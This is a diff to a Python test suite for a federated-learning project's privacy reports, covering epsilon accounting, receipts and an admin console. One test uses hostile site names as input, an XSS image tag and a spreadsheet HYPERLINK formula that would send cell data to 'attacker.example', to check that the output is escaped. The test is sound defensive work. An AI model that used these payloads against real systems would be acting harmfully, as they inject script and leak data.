@@ -34,6 +34,7 @@ from fedface.common.federated import site_name
 from fedface.common.privacy.accounting import Mechanism, compute_epsilon, format_epsilon
 from fedface.common.privacy.ledger import PrivacyLedger
 from fedface.common.privacy.receipts import issue_receipt, receipt_key, write_receipts
+from fedface.server.queries import site_rows
 from fedface.server.reports import SCHEMA, privacy_report_for_ledger, privacy_report_for_run
 from fedface.server.reports.charts import accuracy_figure, epsilon_figure
 from fedface.server.reports.render import CSV_FIELDS, render_report
@@ -212,7 +213,9 @@ def test_run_report_without_ledgers_takes_the_run_stores_figures(fed: Federation
         assert mine["epsilon"]["run"] == theirs["epsilon"]["run"]
         assert [r["epsilon_lifetime"] for r in mine["rounds"]] == [r["epsilon_lifetime"] for r in theirs["rounds"]]
         assert mine["budget"] == theirs["budget"]
-        assert mine["receipts"]["against"] == "run store" and mine["receipts"]["verified"] is True
+        # consistent among themselves and with the store, but not verified: no ledger, no rollback check
+        assert mine["receipts"]["against"] == "run store" and mine["receipts"]["verified"] is None
+        assert mine["receipts"]["summary"].startswith("consistent (not checked against the site's ledger): 3 receipt(s)")
         assert "rollback of it is not checked" in mine["receipts"]["summary"]
         assert mine["ledger"]["path"] is None and mine["ledger"]["integrity"].startswith("not checked")
         assert mine["people"]["max_images_per_person"] is None  # not guessed without the run directory
@@ -440,6 +443,223 @@ def test_a_rolled_back_ledger_fails_its_receipts(tmp_path: Path, yale_a_root: Pa
     assert site["receipts"]["verified"] is False
     assert any("is behind its receipts" in p for p in site["receipts"]["problems"])
     assert any("the ledger no session of it" in p for p in site["problems"])
+
+
+# --- the run store alone: a resumed run, unreported mechanisms, receipts without a ledger ------
+
+A_MECH = {wire.M_NOISE: 1.1, wire.M_SAMPLE_RATE: 0.05, wire.M_STEPS: 40, wire.M_CLIP: 1.0}
+
+
+def _spend(eps: float, status: str = "answered", **kw: Any) -> Participation:
+    return Participation("site-a", status, examples=100, epsilon=eps, delta=DELTA, accountant="rdp",  # type: ignore[arg-type]
+                         budget_epsilon=10.0, remaining=max(0.0, 10.0 - eps), **kw)
+
+
+def _store_round(store: RunStore, run: str, rnd: int, at: str, p: Participation, report: dict[str, Any] | None = None,
+                 **kw: Any) -> None:
+    store.record_round(run, rnd, started_at=f"2026-05-09T{at}:00+00:00", seconds=1.0, sampled=[p.site], participation=[p],
+                       metrics={"verif_acc": 0.5}, reports={p.site: dict(A_MECH if report is None else report)}, **kw)
+
+
+def _resumed_store(path: Path, spends: tuple[float, float, float, float]) -> Path:
+    """Run A charges round 1, run B (started later) round 1, then A is resumed for rounds 2 and 3:
+    in store order (runs by start) B's spend comes last, in time order A's last round does."""
+    a1, b1, a2, a3 = spends
+    with RunStore(path / "runs.sqlite") as store:
+        store.start_run("A", config={}, sites=1, rounds=3, secagg=False, started_at="2026-05-09T09:00:00+00:00")
+        _store_round(store, "A", 1, "09:01", _spend(a1))
+        store.finish_run("A", status="failed", error="crash")
+        store.start_run("B", config={}, sites=1, rounds=1, secagg=False, started_at="2026-05-09T10:00:00+00:00")
+        _store_round(store, "B", 1, "10:01", _spend(b1))
+        store.finish_run("B", status="completed")
+        store.resume_run("A")
+        _store_round(store, "A", 2, "11:01", _spend(a2))
+        _store_round(store, "A", 3, "11:02", _spend(a3))
+        store.finish_run("A", status="completed")
+    return path
+
+
+def test_a_run_resumed_after_a_later_run_reports_the_largest_spend(tmp_path: Path) -> None:
+    run_dir = _resumed_store(tmp_path, (1.0, 2.0, 3.0, 4.0))
+
+    sites = {rid: privacy_report_for_run(run_dir, run_id=rid)["sites"][0] for rid in ("A", "B")}
+    with RunStore(run_dir / "runs.sqlite", create=False) as store:
+        [row] = site_rows(store)
+
+    for site in sites.values():
+        assert site["epsilon"]["lifetime"] == 4.0 and site["budget"]["remaining"] == 6.0
+        assert site["problems"] == []
+    assert [r["epsilon_lifetime"] for r in sites["A"]["rounds"]] == [1.0, 3.0, 4.0]
+    assert (row.epsilon, row.delta, row.budget_epsilon) == (4.0, DELTA, 10.0)  # the console's sites page
+
+
+def test_a_lifetime_spend_that_goes_down_is_a_problem(tmp_path: Path) -> None:
+    # Arrange: run B reports 5, then resumed run A reports 3 and 3.5 (its ledger rolled back, or replaced)
+    run_dir = _resumed_store(tmp_path, (1.0, 5.0, 3.0, 3.5))
+
+    site = privacy_report_for_run(run_dir, run_id="A")["sites"][0]
+    with RunStore(run_dir / "runs.sqlite", create=False) as store:
+        [row] = site_rows(store)
+
+    assert site["epsilon"]["lifetime"] == 5.0 and site["budget"]["remaining"] == 5.0
+    [down] = [p for p in site["problems"] if "went down" in p]
+    assert "from 5.0 (run B round 1, 2026-05-09T10:01:00" in down and "to 3.0 (run A round 2, 2026-05-09T11:01:00" in down
+    assert "at most epsilon 5.000" in site["statement"] and "problem(s) were found" in site["statement"]
+    assert row.epsilon == 5.0
+
+
+def test_the_run_epsilon_is_unknown_when_a_charged_round_reports_no_mechanism(tmp_path: Path) -> None:
+    # Arrange: round 1 reports its mechanism, rounds 2 and 3 a spend only
+    spends = [compute_epsilon([(1.1, 0.05, 40)] * k, delta=DELTA, accountant="rdp") for k in (1, 2, 3)]
+    with RunStore(tmp_path / "runs.sqlite") as store:
+        store.start_run("r", config={}, sites=1, rounds=3, secagg=False)
+        for rnd, eps in enumerate(spends, start=1):
+            _store_round(store, "r", rnd, f"10:0{rnd}", _spend(eps), report=A_MECH if rnd == 1 else {})
+
+    report = privacy_report_for_run(tmp_path)
+    site = report["sites"][0]
+
+    assert site["epsilon"]["run"] is None and site["epsilon"]["lifetime"] == spends[2]
+    assert [r["epsilon_run"] for r in site["rounds"]] == [spends[0], None, None]
+    assert (site["mechanism"]["rounds"], site["mechanism"]["rounds_unreported"]) == (1, [2, 3])
+    assert any(p.startswith("round(s) 2, 3 of run r charged the site's budget") and "unknown" in p for p in site["problems"])
+    assert "40 steps in 1 rounds" not in site["statement"]
+    assert "40 steps in the 1 round(s) of run r whose mechanism it reported" in site["statement"]
+    assert "what this run alone spent is unknown" in site["statement"]
+    assert [p["max_epsilon_run"] for p in report["accuracy_vs_epsilon"]] == [spends[0], None, None]
+    md = render_report(report, "md")
+    summary = next(line for line in md.splitlines() if line.startswith("| site-a |"))
+    assert summary.split(" | ")[1] == "unknown"
+    assert "| epsilon this run (up) | unknown |" in md
+    assert [line.split(" | ")[3] for line in md.splitlines() if line.startswith("| r | ")] == [format_epsilon(spends[0]), "unknown",
+                                                                                             "unknown"]
+
+
+def test_the_run_epsilon_is_unknown_not_zero_when_no_round_reports_its_mechanism(tmp_path: Path) -> None:
+    with RunStore(tmp_path / "runs.sqlite") as store:
+        store.start_run("r", config={}, sites=1, rounds=2, secagg=False)
+        _store_round(store, "r", 1, "10:01", _spend(1.5), report={})
+        _store_round(store, "r", 2, "10:02", _spend(1.5, "refused", reason="budget exhausted"), report={})
+    refused = tmp_path / "refused"
+    with RunStore(refused / "runs.sqlite") as store:
+        store.start_run("r", config={}, sites=1, rounds=1, secagg=False)
+        _store_round(store, "r", 1, "10:01", _spend(1.5, "refused", reason="budget exhausted"), report={})
+
+    site = privacy_report_for_run(tmp_path)["sites"][0]
+    never = privacy_report_for_run(refused)["sites"][0]
+
+    assert site["epsilon"]["run"] is None and site["mechanism"]["rounds_unreported"] == [1]  # the refusal charged nothing
+    assert "It was charged for round(s) 1 of run r, but did not report the mechanism of any of them." in site["statement"]
+    assert never["epsilon"]["run"] == 0.0 and never["problems"] == []  # refused every round: this run spent nothing
+
+
+def test_a_charged_round_with_a_mechanism_but_no_spend_still_counts_in_the_run_epsilon(tmp_path: Path) -> None:
+    first = compute_epsilon([(1.1, 0.05, 40)], delta=DELTA, accountant="rdp")
+    with RunStore(tmp_path / "runs.sqlite") as store:
+        store.start_run("r", config={}, sites=1, rounds=2, secagg=False)
+        _store_round(store, "r", 1, "10:01", _spend(first))
+        _store_round(store, "r", 2, "10:02", Participation("site-a", "answered", examples=100))  # the mechanism, no epsilon
+
+    site = privacy_report_for_run(tmp_path)["sites"][0]
+
+    assert site["epsilon"]["run"] == compute_epsilon([(1.1, 0.05, 40)] * 2, delta=DELTA, accountant="rdp")
+    assert site["mechanism"]["rounds"] == 2 and site["mechanism"]["steps_total"] == 80
+    assert site["problems"] == ["round 2: the site reported the mechanism of a charged round, but no epsilon after it"]
+
+
+def test_receipts_without_the_ledger_are_consistent_not_verified_and_the_console_says_so(
+    fed: Federation, tmp_path: Path
+) -> None:
+    # Arrange: the run store without its ledgers (a deployed server's), its receipts signed and consistent
+    store = tmp_path / "run"
+    store.mkdir()
+    (store / "runs.sqlite").write_bytes((fed.run_dir / "runs.sqlite").read_bytes())
+
+    report = privacy_report_for_run(store)
+    page = _console_privacy_page(store, tmp_path)
+
+    receipts = report["sites"][0]["receipts"]
+    assert (receipts["checked"], receipts["verified"], receipts["problems"]) == (True, None, [])
+    md = render_report(report, "md")
+    summary = [line.split(" | ")[7] for line in md.splitlines() if line.startswith("| site-")]
+    assert summary == ["consistent (not checked against the site's ledger)"] * len(SITES)  # not "verified"
+    assert "| verified | consistent (not checked against the site's ledger) |" in md
+    cells = re.findall(r'<td data-field="receipts">\s*(<span class="badge [^"]+">[^<]+</span>)', page)
+    assert cells == ['<span class="badge badge-neutral">consistent, not checked against the ledger</span>'] * len(SITES)
+
+
+def _console_privacy_page(store: Path, tmp_path: Path, run: str | None = None) -> str:
+    """The console's privacy page for a run store, as a logged-in admin sees it."""
+    import warnings
+
+    from argon2 import PasswordHasher
+
+    from fedface.server.console import auth
+    from fedface.server.console.app import create_app
+    from fedface.server.console.sources import Settings
+
+    with warnings.catch_warnings():  # Starlette warns that its TestClient will move to httpx2
+        warnings.simplefilter("ignore")
+        from starlette.testclient import TestClient
+    admin, password = tmp_path / "admin", "a console test password"
+    auth.init_admin(admin, user="admin", password=password, hasher=PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
+    with TestClient(create_app(Settings(store=store, admin_dir=admin, poll_s=0.01)), follow_redirects=False) as client:
+        token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)  # type: ignore[union-attr]
+        assert client.post("/login", data={"username": "admin", "password": password, "csrf_token": token}).status_code == 303
+        page = client.get("/privacy" + ("" if run is None else f"?run={run}"))
+    assert page.status_code == 200
+    return page.text
+
+
+# --- infinite epsilon, hostile names -----------------------------------------------------------
+
+
+def test_an_infinite_epsilon_is_strict_json_and_renders_everywhere(tmp_path: Path) -> None:
+    # Arrange: a non-private round, epsilon infinite
+    with RunStore(tmp_path / "runs.sqlite") as store:
+        store.start_run("r", config={"privacy": {"epsilon": "inf"}}, sites=1, rounds=1, secagg=False)
+        _store_round(store, "r", 1, "10:01", Participation("site-a", "answered", examples=100, epsilon=math.inf, delta=DELTA,
+                                                           accountant="rdp"), report={})
+
+    report = privacy_report_for_run(tmp_path)
+    text = render_report(report, "json")
+
+    def refuse(constant: str) -> None:
+        raise ValueError(constant)
+
+    parsed = json.loads(text, parse_constant=refuse)  # no Infinity, no NaN
+    site = parsed["sites"][0]
+    assert site["epsilon"]["lifetime"] == "inf" and site["rounds"][0]["epsilon_lifetime"] == "inf"
+    assert {(e["epsilon"], e["delta"], e["meaningful"]) for e in site["group_privacy"]["entries"]} == {("inf", 1.0, False)}
+    assert "epsilon inf, delta 1: no meaningful guarantee" in report["sites"][0]["statement"]
+    [row] = list(csv.DictReader(io.StringIO(render_report(report, "csv"))))
+    assert float(row["epsilon_lifetime"]) == math.inf and row["epsilon_lifetime_display"] == "inf"
+    assert "<td>inf</td>" in render_report(report, "html")
+    assert "epsilon is infinite (not private)" in [t.get_text() for t in epsilon_figure(report["sites"][0], run_id="r").axes[0].texts][0]
+    page = _console_privacy_page(tmp_path, tmp_path)
+    assert 'data-field="epsilon-lifetime" class="num" data-value="inf">inf<' in page
+
+
+def test_site_names_are_escaped_in_markdown_and_defused_in_csv(tmp_path: Path) -> None:
+    tag, formula = "<img src=x onerror=alert(1)>", '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    names = [tag, formula, "a|b`c`[d](e)", "-1+2", "@sum"]
+    with RunStore(tmp_path / "runs.sqlite") as store:
+        store.start_run("r", config={}, sites=len(names), rounds=1, secagg=False)
+        store.record_round("r", 1, started_at="2026-05-09T10:01:00+00:00", seconds=1.0, sampled=names, metrics={},
+                           participation=[Participation(n, "answered", examples=1, epsilon=1.0, delta=DELTA, accountant="rdp",
+                                                        budget_epsilon=8.0, remaining=7.0) for n in names])
+
+    report = privacy_report_for_run(tmp_path)
+    md, text = render_report(report, "md"), render_report(report, "csv")
+
+    assert "<img" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md and "## Site &lt;img" in md
+    assert "a\\|b\\`c\\`\\[d\\](e)" in md and "[d](e)" not in md
+    rows = {r["site"]: r for r in csv.DictReader(io.StringIO(text))}
+    assert set(rows) == {"'" + n for n in names[1:] if n[0] in "=-@"} | {tag, "a|b`c`[d](e)"}
+    for row in rows.values():
+        assert (float(row["epsilon_lifetime"]), float(row["budget_epsilon"]), float(row["remaining"])) == (1.0, 8.0, 7.0)
+        assert float(row["delta"]) == DELTA and row["round"] == "1"
+
 
 
 # --- the ledger report -------------------------------------------------------------------------
